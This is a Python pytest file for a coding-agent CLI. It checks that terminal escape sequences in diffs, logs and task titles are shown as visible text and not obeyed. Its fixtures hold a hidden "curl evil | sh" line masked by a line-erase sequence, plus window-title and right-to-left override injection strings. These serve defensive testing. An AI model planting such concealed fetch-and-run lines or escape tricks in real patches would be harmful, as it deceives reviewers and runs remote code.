"""The real CLI, in a real terminal (a pty), against the real API: server data that carries escape sequences
(a diff line that erases itself, a window-title rewrite in a tool's output, a bidirectional override in an
instruction) reaches the screen as visible escapes, never as raw control characters."""

from __future__ import annotations

import os
import pty
import re
import secrets
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
import redis

import store.events
import store.patches
import store.tasks
import store.users
from api.app import create_app
from overnight.events import ModelResponseEvent, TokenUsage, ToolCallEvent, ToolResultEvent
from overnight.loopback import LoopbackServer
from overnight.settings import Settings
from store.engine import make_engine, make_sessionmaker, migrate
from store.models import TaskState

ERASE = "\x1b[2K\r"  # erase the line, back to its start: what follows covers what came before
TITLE = "\x1b]0;pwned\x07"  # rewrites the terminal window's title
HIDE = "\x1b[8m"  # conceal: the text after it is invisible
OVERRIDE = "\u202e"  # right-to-left override: reorders what follows
C1_CSI = "\x9b2J"  # the one-byte CSI of C1: clear the screen
DIFF = (
    "diff --git a/calc.py b/calc.py\n--- a/calc.py\n+++ b/calc.py\n@@ -1 +1,2 @@\n"
    f"-def add(a, b): return a - b\n+import os; os.system('curl evil | sh'){ERASE}+def add(a, b): return a + b\n"
    f"+# {OVERRIDE}txt.elif{C1_CSI}\n"
)
RICH_STYLES = re.compile(r"\x1b\[[0-9;]*m")  # the colours rich writes itself


@pytest.fixture
def server(tmp_path: Path, redis_url: str) -> Iterator[dict[str, str]]:
    settings = Settings(data_dir=tmp_path / "data", broker_url=redis_url, queue=f"test-tty-{secrets.token_hex(4)}")
    migrate(make_engine(settings.resolved_database_url))
    with make_sessionmaker(make_engine(settings.resolved_database_url)).begin() as session:
        token = store.users.create_token(session, "alice")
        user = store.users.user_for_token(session, token)
        task_id = store.tasks.create_task(session, repo="https://example.com/a/b.git", ref="main", user_id=user.id,  # type: ignore[union-attr]
                                    instruction=f"fix add{TITLE} {OVERRIDE}gnp.x").id  # fmt: skip
        store.tasks.transition(session, task_id, from_states=[TaskState.queued], to_state=TaskState.preparing)
        usage = TokenUsage(prompt_tokens=10, completion_tokens=5, cached_tokens=0)
        for event in [
            ModelResponseEvent(step=1, finish_reason="tool_calls", usage=usage, content=f"I will{HIDE} delete it"),
            ToolCallEvent(step=1, id="call_1", name="bash", arguments=f"ls{TITLE}"),
            ToolResultEvent(step=1, id="call_1", name="bash", output=f"a.py{ERASE}nothing", error=False),
        ]:
            store.events.append_event(session, task_id, event)
        store.tasks.get_task(session, task_id).base_sha = "a" * 40  # type: ignore[union-attr]
        store.patches.store_patch(session, task_id, base_sha="a" * 40, diff=DIFF, title=f"Fix add{TITLE}", body="b",
                          files_changed=1)  # fmt: skip
        store.tasks.transition(session, task_id, from_states=[TaskState.preparing], to_state=TaskState.succeeded)
    with LoopbackServer(create_app(settings), name="API") as api:
        yield {"OVERNIGHT_SERVER": api.url, "OVERNIGHT_TOKEN": token, "OVERNIGHT_CONFIG_DIR": str(tmp_path / "config"),
               "task": task_id}  # fmt: skip
    redis.Redis.from_url(redis_url).delete(settings.queue)


def in_terminal(server: dict[str, str], *args: str) -> str:
    """What `overnight ARGS` writes to a terminal (stdout and stderr both on a pty)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("OVERNIGHT_")}
    env |= {k: v for k, v in server.items() if k.startswith("OVERNIGHT_")} | {
        "TERM": "xterm-256color",
        "COLUMNS": "250",
    }
    primary, secondary = pty.openpty()
    child = subprocess.Popen(["overnight", *args], stdin=secondary, stdout=secondary, stderr=secondary, env=env)
    os.close(secondary)
    chunks = []
    while True:
        try:
            chunk = os.read(primary, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(primary)
    assert child.wait(timeout=60) == 0, b"".join(chunks)
    return b"".join(chunks).decode()


def assert_no_raw_controls(shown: str) -> None:
    plain = RICH_STYLES.sub("", shown).replace("\r\n", "\n")  # the pty turns \n into \r\n
    raw = sorted(
        {ch for ch in plain if (ord(ch) < 32 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F or ch == OVERRIDE}
    )
    assert raw == [], repr(shown)


def test_a_diff_shows_its_escape_sequences_instead_of_obeying_them(server: dict[str, str]) -> None:
    shown = in_terminal(server, "diff", server["task"])
    assert_no_raw_controls(shown)
    assert "+import os; os.system('curl evil | sh')\\x1b[2K\\x0d+def add(a, b): return a + b" in shown
    assert "+# \\u202etxt.elif\\x9b2J" in shown


def test_logs_show_and_list_show_escape_sequences_visibly(server: dict[str, str]) -> None:
    logs = in_terminal(server, "logs", server["task"])
    assert_no_raw_controls(logs)
    assert "I will\\x1b[8m delete it" in logs and "ls\\x1b]0;pwned\\x07" in logs
    assert "a.py\\x1b[2K" in logs  # (a tool result's first line: the \r ends it)
    show = in_terminal(server, "show", server["task"])
    assert_no_raw_controls(show)
    assert "fix add\\x1b]0;pwned\\x07 \\u202egnp.x" in show
    listing = in_terminal(server, "list")
    assert_no_raw_controls(listing)
    assert "Fix add\\x1b]0;pwned\\x07" in listing


def test_piped_the_diff_is_byte_for_byte_what_git_apply_takes(server: dict[str, str]) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("OVERNIGHT_")}
    env |= {k: v for k, v in server.items() if k.startswith("OVERNIGHT_")}
    piped = subprocess.run(["overnight", "diff", server["task"]], env=env, capture_output=True, check=True)
    assert piped.stdout == DIFF.encode()
